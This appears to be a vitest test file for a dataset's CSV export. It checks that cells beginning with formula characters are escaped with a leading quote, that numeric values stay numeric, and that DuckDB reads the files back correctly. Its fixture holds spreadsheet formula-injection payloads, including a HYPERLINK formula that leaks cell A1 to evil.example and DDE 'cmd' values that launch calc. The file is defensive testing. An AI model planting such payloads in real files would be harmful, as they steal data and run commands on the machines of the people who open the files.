import { DuckDBInstance } from '@duckdb/node-api';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { formatCsv } from '../../src/export/formatCsv.js';
import { toCSV } from '../../src/export/toCSV.js';
import { safeParseDataset } from '../../src/schema/safeParseDataset.js';
import { copyMini } from '../fixtures/miniDataset.js';
import { csvObjects } from './parseCsvReference.js';

/** A dataset that passes validation and carries formulas in its free text. */
function hostile() {
  const d = copyMini();
  d.events[0].summary = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
  d.entities[2].name = '@SUM(1+1)*cmd|\' /C calc\'!A0';
  d.entities[2].aliases = ['+cmd|calc', '-2+3', '\tTabbed', '\rReturn'];
  d.entities[1].coordinates.lat = -33.5;
  d.entities[1].coordinates.lon = -70.25;
  return d;
}

describe('CSV formula injection', () => {
  it('the hostile dataset is valid: escaping is the export’s job', () => {
    expect(safeParseDataset(hostile()).success).toBe(true);
  });

  it('neutralises cells starting with = + - @ tab or CR with a leading quote (OWASP)', () => {
    const data = hostile();
    const events = csvObjects(toCSV('events', { dataset: data }));
    expect(events[0]!.summary).toBe(`'${data.events[0].summary}`);
    expect(events[0]!.actor1_name).toBe(`'${data.entities[2].name}`);
    const aliases = csvObjects(toCSV('aliases', { dataset: data })).filter((r) => r.entity_id === 'group-a').map((r) => r.alias);
    expect(aliases).toEqual(["'+cmd|calc", "'-2+3", "'\tTabbed", "'\rReturn"]);
  });

  it('leaves numbers alone: negative numbers and coordinates stay numeric', () => {
    expect(formatCsv(['a', 'b', 'c', 'd'], [[-5, '-5', '+3.5', '-1e3']])).toBe('a,b,c,d\r\n-5,-5,+3.5,-1e3\r\n');
    const entities = csvObjects(toCSV('entities', { dataset: hostile() }));
    expect(entities.find((e) => e.id === 'town')!.latitude).toBe('-33.5');
  });

  it("formulas: 'raw' writes every value as it is", () => {
    const data = hostile();
    expect(csvObjects(toCSV('events', { dataset: data, formulas: 'raw' }))[0]!.summary).toBe(data.events[0].summary);
    expect(formatCsv(['x'], [['=1+1']], { formulas: 'raw' })).toBe('x\r\n=1+1\r\n');
    expect(formatCsv(['x'], [['=1+1']], true)).toBe("\uFEFFx\r\n'=1+1\r\n");
  });

  it('DuckDB reads the escaped file back: numbers as numbers, text with its guard quote', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'iraq-militias-formulas-'));
    const instance = await DuckDBInstance.create(':memory:');
    const db = await instance.connect();
    try {
      writeFileSync(join(dir, 'entities.csv'), toCSV('entities', { dataset: hostile() }));
      writeFileSync(join(dir, 'events.csv'), toCSV('events', { dataset: hostile() }));
      const file = (name: string) => `'${join(dir, name).replaceAll("'", "''")}'`;
      const types = (await db.runAndReadAll(`DESCRIBE SELECT latitude, longitude FROM read_csv_auto(${file('entities.csv')})`)).getRowObjectsJson();
      expect(types.map((t) => t.column_type)).toEqual(['DOUBLE', 'DOUBLE']);
      const sum = (await db.runAndReadAll(`SELECT sum(latitude) AS s FROM read_csv_auto(${file('entities.csv')}) WHERE id = 'town'`)).getRowObjectsJson();
      expect(Number(sum[0]!.s)).toBe(-33.5);
      const killed = (await db.runAndReadAll(`DESCRIBE SELECT killed_best FROM read_csv_auto(${file('events.csv')})`)).getRowObjectsJson();
      expect(killed[0]!.column_type).toMatch(/INT/);
      const summary = (await db.runAndReadAll(`SELECT summary FROM read_csv_auto(${file('events.csv')}) WHERE id = 'attack-one'`)).getRowObjectsJson();
      expect(summary[0]!.summary).toBe(`'${hostile().events[0].summary}`);
    } finally {
      db.closeSync();
      instance.closeSync();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
